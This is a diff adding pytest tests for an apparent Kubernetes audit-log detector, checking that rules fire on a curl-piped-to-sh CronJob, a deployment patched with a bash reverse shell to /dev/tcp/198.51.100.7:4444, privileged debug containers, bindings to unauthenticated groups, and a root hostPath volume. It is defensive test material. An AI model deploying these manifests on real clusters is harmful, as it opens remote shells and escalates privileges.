@@ -465,3 +465,75 @@ def test_dedup_window_does_not_re_emit_on_out_of_order_events() -> None:
     assert not pipe.process_obj(secret_get("2026-11-27T11:00:00.000000Z"))  # 30 min after
     assert pipe.process_obj(secret_get("2026-11-27T11:31:00.000000Z"))  # a window after the emission
     assert pipe.stats.suppressed == 2
+
+
+# --- 5. the same classes elsewhere ------------------------------------------------------------
+
+
+def test_curl_pipe_sh_cronjob_and_reverse_shell_deployment() -> None:
+    """The exec rules read commands of kubectl exec only; a CronJob that runs `curl | sh` every
+    five minutes was a low 'CronJob created' at best."""
+    ids = run(
+        sa_event("create", "cronjobs", name="update", namespace="web", code=201, request_object=CRONJOB)
+    )
+    assert "KS-AUD-N24" in ids
+    shell = {"spec": {"template": {"spec": {"containers": [
+        {"name": "web", "args": ["bash", "-i", ">&", "/dev/tcp/198.51.100.7/4444", "0>&1"]}]}}}}  # fmt: skip
+    assert "KS-AUD-N24" in run(kubectl_patch("deployments", "web", shell))
+    # the Job the cronjob-controller creates from that template is not its author's doing
+    job = {"kind": "Job", "spec": CRONJOB["spec"]["jobTemplate"]["spec"]}
+    assert "KS-AUD-N24" not in run(
+        event(
+            "create",
+            "jobs",
+            name="update-1",
+            namespace="web",
+            code=201,
+            request_object=job,
+            user="system:serviceaccount:kube-system:cronjob-controller",
+        )  # fmt: skip
+    )
+    quiet = {"kind": "CronJob", "spec": {"jobTemplate": {"spec": {"template": {"spec": {
+        "containers": [{"name": "c", "image": "curlimages/curl", "command": ["curl", "-fsS", "http://svc/ping"]}]}}}}}}  # fmt: skip
+    assert "KS-AUD-N24" not in run(event("create", "cronjobs", name="ping", code=201, request_object=quiet))
+
+
+def test_privileged_debug_container_added_by_kubectl_debug() -> None:
+    """`kubectl debug -it pod --profile=sysadmin` patches pods/ephemeralcontainers with a
+    privileged container: only F13 (a notice) saw it."""
+    body = {"spec": {"ephemeralContainers": [{"name": "debugger-x", "image": "busybox", "stdin": True, "tty": True,
+                                              "securityContext": {"privileged": True}}]}}  # fmt: skip
+    ev = event(
+        "patch",
+        "pods",
+        subresource="ephemeralcontainers",
+        name="web-1",
+        namespace="shop",
+        request_object=body,
+    )
+    ids = run(ev)
+    assert {"KS-AUD-F13", "KS-AUD-N22"} <= ids
+    unpriv = {"spec": {"ephemeralContainers": [{"name": "debugger-y", "image": "busybox"}]}}
+    ev = event("patch", "pods", subresource="ephemeralcontainers", name="web-1", namespace="shop",
+               request_object=unpriv)  # fmt: skip
+    assert "KS-AUD-N22" not in run(ev)
+
+
+def test_anonymous_and_all_service_account_groups_in_bindings() -> None:
+    unauth = {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "view"},
+              "subjects": [{"kind": "Group", "name": "system:unauthenticated"}]}  # fmt: skip
+    assert "KS-AUD-G02" in run(
+        event("create", "clusterrolebindings", namespace=None, code=201, request_object=unauth)
+    )
+    all_sa = {"kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "admin"},
+              "subjects": [{"kind": "Group", "name": "system:serviceaccounts:web"}]}  # fmt: skip
+    assert "KS-AUD-G03" in run(
+        event("create", "rolebindings", namespace="web", code=201, request_object=all_sa)
+    )
+
+
+def test_host_path_persistent_volume() -> None:
+    pv = {"kind": "PersistentVolume", "metadata": {"name": "root"},
+          "spec": {"capacity": {"storage": "1Gi"}, "accessModes": ["ReadWriteOnce"], "hostPath": {"path": "/"}}}  # fmt: skip
+    assert "KS-AUD-N10" in run(sa_event("create", "persistentvolumes", name="root", namespace=None, code=201,
+                                        request_object=pv))  # fmt: skip
